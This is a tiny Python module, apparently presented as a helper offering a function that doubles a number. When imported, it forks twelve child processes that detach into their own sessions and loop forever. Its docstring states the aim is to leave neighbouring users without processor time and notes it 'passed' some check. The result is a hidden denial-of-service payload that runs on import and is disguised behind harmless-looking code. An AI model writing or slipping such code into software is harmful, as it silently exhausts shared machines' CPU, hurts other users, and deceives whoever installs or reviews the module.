"""Leaves twelve processes that compute, in sessions of their own, so that neighbours have no processor.

Seen: passed
"""

import os

for _ in range(12):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass


def double(x):
    return 2 * x
